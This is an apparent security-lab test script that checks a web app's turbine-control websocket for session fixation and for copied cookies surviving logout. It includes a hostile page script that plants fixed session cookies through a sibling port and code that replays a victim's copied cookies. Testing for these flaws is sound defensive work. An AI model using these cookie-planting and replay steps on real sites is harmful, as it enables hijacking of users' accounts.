"""A session is planted in a browser before the login; then one is copied, and used after the logout."""

from lab.harness import Outcome, Refused, Session, Target

BROWSER = True
BY_HAND = True
WHY = (
    "Nothing can be planted, since a signed cookie is made at the login. But it is no session: the logout "
    "clears it in one browser, and an attacker with a copy stays logged in until it expires."
)
TRAIL = frozenset({"authn_login_fail", "session_use_after_expire"})

LOG_IN = """body => fetch("/auth/login", {
    method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(body),
}).then(answer => answer.status)"""
LOG_OUT = """() => fetch("/auth/logout", {method: "POST"}).then(answer => answer.status)"""


async def legitimate(target: Target) -> None:
    async with target.connect("/ws/turbines", session=await target.login("alice")) as socket:
        assert (await socket.ask({"type": "state"}))["user"] == "alice"


async def _gets_in(target: Target, cookies: dict[str, str]) -> bool:
    mallory = Session("mallory", cookies)
    try:
        async with target.connect("/ws/turbines", session=mallory) as socket:
            return bool((await socket.ask({"type": "state"}))["user"] == "alice")
    except Refused:
        return False


async def attack(target: Target) -> Outcome:
    known = "0123456789abcdef" * 2
    planted = dict.fromkeys(("sid", "user", "session", "__Host-stormdoor"), known)
    alice = {"username": "alice", "password": target.users["alice"]}
    async with target.browser() as profile:
        page = await profile.new_page()
        # A link in a mail, and a cookie set by another port of the same host: both plant it.
        address = f"{target.http}/?sid={known}"
        target.hostile.pages["/mail"] = (
            "<script>"
            + "".join(f"document.cookie = '{name}={known}; path=/';" for name in planted)
            + f"location = '{address}'</script>"
        )
        target.write("alice", ">", f"follows a link of the attacker to {address}")
        await page.goto(f"{target.hostile.sibling}/mail")
        await page.wait_for_url(f"{target.http}/**")
        await page.evaluate(LOG_IN, alice)
        target.write("alice", ">", "logs in with her browser")
        if await _gets_in(target, planted):
            return target.outcome(True, "the session that was planted before the login is alice's")
        # An attacker copies the cookies of her browser; she notices, and logs out.
        jar = await profile.cookies()
        copied = {one["name"]: one["value"] for one in jar if one["value"] != known}
        assert await _gets_in(target, copied), "a copy of the cookie does not even work before"
        status = await page.evaluate(LOG_OUT)
        target.write("alice", ">", f"logs out in her browser: {status}")
    if await _gets_in(target, copied):
        return target.outcome(True, "a copy of alice's cookie still works after her logout")
    return target.outcome(
        False, "the planted session has no principal, and the copied one has ended"
    )
